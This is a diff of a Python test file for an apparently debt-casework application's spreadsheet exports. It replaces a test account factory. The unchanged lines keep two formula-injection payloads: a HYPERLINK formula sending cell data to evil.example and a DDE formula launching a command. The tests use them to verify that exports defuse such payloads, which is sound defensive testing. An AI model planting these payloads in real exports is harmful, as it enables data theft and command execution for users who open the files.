@@ -22,7 +22,7 @@ from casework.documents.services import issue_document, prepare, record_delivery
 from casework.enterprise.models import get_enterprise
 from casework.extensions import db
 from casework.imports.models import ImportBatch
-from tests.integration.test_documents import make_account
+from tests.factories import owned_flat
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Оплатить")'
 DDE = "=cmd|' /C calc'!A0"
@@ -55,7 +55,7 @@ def _assert_defused(texts, *hostile):
 
 
 def test_documents_export_defuses_debtor_names_delivery_proofs_and_courts(client, login):
-    acc = make_account(owners=1)
+    acc = owned_flat(owners=1)
     acc.debtor_name = HYPERLINK
     acc.parties[0].party.full_name = HYPERLINK
     db.session.flush()
@@ -156,7 +156,7 @@ def test_import_error_file_gives_the_bad_cells_back_defused(client, login):
 
 def test_the_documents_export_is_still_a_registry(client, login):
     """The export through the shared writer keeps its columns: number, date, amount as a number, delivery."""
-    acc = make_account()
+    acc = owned_flat()
     doc = issue_document(prepare("notice_debt", account_id=acc.id, common=load_common({}, date(2026, 11, 22))),
                          log_contact=False)
     record_delivery(doc, date(2026, 11, 22), "registered_mail", "80080012345678", today=date(2026, 11, 23))
